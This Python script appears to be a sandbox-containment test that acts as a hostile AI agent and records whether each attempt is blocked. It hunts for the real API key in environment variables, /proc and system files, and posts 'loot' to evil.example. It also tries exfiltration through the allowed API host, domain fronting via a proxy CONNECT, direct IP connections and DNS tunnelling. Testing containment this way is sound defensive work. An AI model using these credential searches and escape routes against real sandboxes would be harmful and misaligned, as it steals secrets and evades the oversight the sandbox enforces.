"""A small agent, run inside the sandbox: one call to the model, and everything that a hostile one would try.

Prints one JSON object a line: what was tried and what came of it. Standard library only.
"""

from __future__ import annotations

import json
import os
import socket
import ssl
import subprocess
import sys
import urllib.error
import urllib.request
from pathlib import Path

PLACEHOLDER = os.environ.get("ANTHROPIC_API_KEY", "")


def report(what: str, ok: bool, detail: str) -> None:
    print(json.dumps({"what": what, "ok": ok, "detail": detail}), flush=True)


def call(url: str, *, data: bytes | None = None, headers: dict[str, str] | None = None) -> tuple[int, str]:
    request = urllib.request.Request(url, data=data, headers=headers or {})
    try:
        with urllib.request.urlopen(request, timeout=20) as answer:
            return answer.status, answer.read().decode()
    except urllib.error.HTTPError as error:
        return error.code, error.read().decode()


def ask_the_model() -> None:
    body = json.dumps(
        {"model": "stand-in", "max_tokens": 32, "messages": [{"role": "user", "content": "Say hello."}]}
    ).encode()
    headers = {"x-api-key": PLACEHOLDER, "content-type": "application/json", "anthropic-version": "2023-06-01"}
    status, text = call("https://api.anthropic.com/v1/messages", data=body, headers=headers)
    said = json.loads(text)["content"][0]["text"] if status == 200 else text
    report("call the model with the placeholder key", status == 200, f"{status} {said}")


def look_for_the_secret(marker: str) -> None:
    """``marker`` is enough of the real key to find it, and not the key."""
    found = [f"${name}" for name, value in os.environ.items() if marker in value]
    for process in Path("/proc").glob("[0-9]*/environ"):
        try:
            if marker.encode() in process.read_bytes():
                found.append(str(process))
        except OSError:
            continue
    roots = [Path.home(), Path.cwd(), Path("/etc"), Path("/tmp"), Path("/run"), Path("/var")]  # noqa: S108
    files = 0
    for root in roots:
        for directory, _, names in os.walk(root):
            for name in names:
                file = Path(directory, name)
                try:
                    if file.is_file() and file.stat().st_size < 1 << 20:
                        files += 1
                        if marker.encode() in file.read_bytes():
                            found.append(str(file))
                except OSError:
                    continue
    report("find the real key in variables, /proc and files", not found, ", ".join(found) or f"not in {files} files")


def escape_by_proxy() -> None:
    try:
        status, text = call("https://evil.example/collect", data=b"loot")
        answer = f"{status} {text[:60]}"
    except OSError as error:
        answer = str(getattr(error, "reason", error))
    report("send data to a host that is not allowed", "403" in answer, answer)


def escape_by_api() -> None:
    status, text = call("https://api.anthropic.com/v1/files", data=b"loot", headers={"x-api-key": "sk-ant-test-mine"})
    report("use the allowed host as a drop box", status == 403, f"{status} {json.loads(text)['error']['code']}")


def escape_by_fronting() -> None:
    proxy = os.environ["HTTPS_PROXY"].removeprefix("http://").rstrip("/")
    host, _, port = proxy.rpartition(":")
    with socket.create_connection((host, int(port)), timeout=10) as raw:
        raw.sendall(b"CONNECT api.anthropic.com:443 HTTP/1.1\r\nHost: api.anthropic.com:443\r\n\r\n")
        raw.recv(4096)
        context = ssl.create_default_context()
        with context.wrap_socket(raw, server_hostname="api.anthropic.com") as tls:
            tls.sendall(b"GET / HTTP/1.1\r\nHost: evil.example\r\n\r\n")
            status = tls.recv(4096).split(b" ")[1].decode()
    report("hide another host behind an allowed one", status == "421", status)


def escape_by_address() -> None:
    what = "connect to an address without the proxy"
    try:
        sock = socket.create_connection(("1.1.1.1", 80), timeout=5)
    except OSError as error:
        report(what, True, error.strerror or str(error))
        return
    with sock:  # wherever it dials, it is the gateway: only its refusal shows that
        try:
            sock.sendall(b"GET / HTTP/1.1\r\nHost: 1.1.1.1\r\n\r\n")
            status = sock.recv(64).partition(b"\r\n")[0].decode("latin-1")
        except OSError as error:
            status = f"connected, and then: {error}"
    report(what, status.startswith("HTTP/1.1 403 "), status)


def escape_by_dns() -> None:
    query = b"\x12\x34\x01\0\0\1\0\0\0\0\0\0\4loot\4evil\7example\0\0\1\0\1"
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.settimeout(2)
        try:
            sock.sendto(query, ("8.8.8.8", 53))
            no_such_name = sock.recv(512)[3] & 15 == 3
            report("carry data out in a DNS query", no_such_name, "no such name, and nobody outside was asked")
        except OSError as error:
            report("carry data out in a DNS query", True, error.strerror or str(error))


def shell() -> None:
    output = subprocess.run(["id"], capture_output=True, text=True, check=False).stdout.strip()
    report("run a program", bool(output), output)


def main() -> None:
    shell()
    ask_the_model()
    look_for_the_secret(sys.argv[1])
    escape_by_proxy()
    escape_by_api()
    escape_by_fronting()
    escape_by_address()
    escape_by_dns()


if __name__ == "__main__":
    main()
